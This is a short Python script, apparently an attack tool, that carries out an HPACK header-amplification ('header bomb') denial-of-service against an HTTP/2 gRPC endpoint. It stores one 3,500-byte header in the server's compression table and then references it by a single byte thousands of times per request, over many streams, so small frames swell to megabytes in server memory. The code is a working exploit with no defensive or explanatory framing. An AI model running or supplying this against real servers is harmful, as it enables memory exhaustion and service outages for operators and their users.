"""Headers that are short on the wire and long in a server: a long one is named once, and then four thousand times by a byte (HPACK)."""

from __future__ import annotations

import socket
import struct
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, END_HEADERS = 4, 1, 4
NAMED_BEFORE = b"\xbe"
"""The header that was put into the table last."""
REPEATS = 4000
ASKED = {
    ":method": "POST",
    ":scheme": "http",
    ":path": "/omnistage.v1.OmniService/Generate",
    ":authority": "x",
    "te": "trailers",
    "content-type": "application/grpc",
}


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _text(text: str) -> bytes:
    """Its length, with 7 bits of the first byte, and its bytes (RFC 7541, 5.1 and 5.2)."""
    data, rest = text.encode(), len(text) - 127
    if rest < 0:
        return bytes([len(data)]) + data
    length = bytearray([127])
    while rest >= 128:
        length.append(rest % 128 + 128)
        rest //= 128
    return bytes([*length, rest]) + data


def _header(name: str, value: str, kind: int) -> bytes:
    """kind: 0: not kept; 0x40: kept in the table."""
    return bytes([kind]) + _text(name) + _text(value)


def header_bomb(address: str, calls: int) -> None:
    """As many calls as the server takes, each with 14 MB of headers in 4 KB; ends early where the connection is cut."""
    host, _, port = address.rpartition(":")
    asked = b"".join(_header(name, value, 0) for name, value in ASKED.items())
    with socket.create_connection((host, int(port)), timeout=30) as connection, suppress(OSError):
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, asked + _header("big", "b" * 3500, 0x40)))
        for call in range(1, calls):
            connection.sendall(frame(HEADERS, END_HEADERS, 2 * call + 1, asked + NAMED_BEFORE * REPEATS))
            connection.setblocking(False)
            with suppress(BlockingIOError):
                connection.recv(1 << 16)
            connection.settimeout(30)
